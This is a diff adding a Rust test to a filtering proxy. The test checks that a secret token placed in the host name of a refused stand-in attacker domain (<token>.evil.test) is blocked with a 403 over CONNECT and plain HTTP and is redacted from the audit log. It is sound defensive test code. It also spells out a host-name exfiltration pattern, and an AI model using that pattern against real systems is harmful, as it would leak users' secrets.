@@ -277,3 +277,38 @@ async fn a_silent_refused_tunnel_is_closed_after_the_handshake_timeout() {
     assert!(started.elapsed() >= std::time::Duration::from_millis(900));
     assert!(rest.is_empty());
 }
+
+/// A secret written into the name of a refused host (`<token>.evil.test`,
+/// over CONNECT and over plain http) is never resolved or contacted, and
+/// the audit log records the refusal with the secret redacted.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_secret_in_a_refused_host_name_stays_out_of_the_audit_log() {
+    const TOKEN: &str = "xoxb-123456789012-123456789012-abcdefghijklmnopqrstuvwx";
+    let proxy = ProxyBuilder::new().start().await;
+    let host = format!("{TOKEN}.evil.test");
+    let inside = client::refused(&proxy, &format!("{host}:443")).await;
+    assert_eq!(inside.status, 403);
+    let mut s = tokio::net::TcpStream::connect(proxy.addr).await.unwrap();
+    s.write_all(
+        format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")
+            .as_bytes(),
+    )
+    .await
+    .unwrap();
+    assert_eq!(read_response(&mut s).await.status, 403);
+    // The CONNECT, the request inside the refused tunnel, the plain request.
+    let events = crate::support::eventually("three refusals recorded", || {
+        let events = proxy.audit();
+        (events.iter().filter(|e| e["decision"] == "deny").count() >= 3).then_some(events)
+    })
+    .await;
+    let log = std::fs::read_to_string(&proxy.audit_path).unwrap();
+    assert!(
+        !log.contains(TOKEN),
+        "the token reached the audit log: {log}"
+    );
+    for e in events.iter().filter(|e| e["decision"] == "deny") {
+        let h = e["host"].as_str().unwrap();
+        assert!(h.contains("[REDACTED:") && h.ends_with(".evil.test"), "{e}");
+    }
+}
